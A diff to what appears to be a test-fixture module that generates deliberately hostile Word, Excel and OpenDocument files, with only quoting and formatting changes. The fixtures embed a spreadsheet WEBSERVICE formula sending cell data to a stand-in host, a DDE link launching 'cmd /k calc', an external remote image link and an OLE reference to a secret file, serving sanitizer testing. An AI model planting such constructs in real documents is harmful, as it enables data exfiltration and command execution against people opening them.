@@ -418,7 +418,8 @@ def docx_vml_links() -> bytes:
         f'<w:p><w:r><w:drawing><a:blip xmlns:a="{a}" r:link="rIdRemote"/></w:drawing></w:r></w:p>'
         "</w:body></w:document>"
     )
-    rels = _rels(("rIdRemote", "image", "http://hostile.example/blip.png", ' TargetMode="External"'))
+    remote = ' TargetMode="External"'
+    rels = _rels(("rIdRemote", "image", "http://hostile.example/blip.png", remote))
     return _replace(
         docx_hostile(),
         {"word/document.xml": document, "word/_rels/document.xml.rels": rels},
@@ -435,7 +436,7 @@ def xlsx_formulas() -> bytes:
         '<calcPr calcId="191029" fullCalcOnLoad="1"/></workbook>'
     )
     sheet = (
-        f"{_DECL}<worksheet {_XNS}><sheetData><row r=\"1\">"
+        f'{_DECL}<worksheet {_XNS}><sheetData><row r="1">'
         '<c r="A1" t="inlineStr"><is><t>Last seen 2017</t></is></c>'
         '<c r="B1" t="str"><f>WEBSERVICE("http://hostile.example/ws?id="&amp;A1)</f>'
         "<v>Cached value</v></c>"
@@ -472,7 +473,7 @@ def odt_inline() -> bytes:
         'office:dde-application="cmd" office:dde-topic="/k calc" office:dde-item="x"/>'
         "</text:dde-connection-decls>"
         f"<text:p>{VISIBLE}</text:p>"
-        f'<text:p><draw:frame><draw:image><office:binary-data>{_base64(jpeg_with_gps())}'
+        f"<text:p><draw:frame><draw:image><office:binary-data>{_base64(jpeg_with_gps())}"
         "</office:binary-data></draw:image></draw:frame>"
         "<draw:frame><draw:object-ole><office:binary-data>"
         f"{_base64(b'HOSTILE-OLE C:/Users/Mehrigul/secret.txt')}</office:binary-data>"
@@ -481,7 +482,8 @@ def odt_inline() -> bytes:
         '<text:p><text:execute-macro text:name="HOSTILE-MACRO">Press</text:execute-macro>'
         '<text:script script:language="JavaScript">HOSTILE-SCRIPT</text:script>'
         "<text:sender-firstname>HOSTILE-SENDER</text:sender-firstname>"
-        '<text:dde-connection text:connection-name="HOSTILE-DDE-LINK">HOSTILE-DDE</text:dde-connection>'
+        '<text:dde-connection text:connection-name="HOSTILE-DDE-LINK">HOSTILE-DDE'
+        "</text:dde-connection>"
         "</text:p></office:text></office:body></office:document-content>"
     )
     return _replace(odt_hostile(), {"content.xml": content})
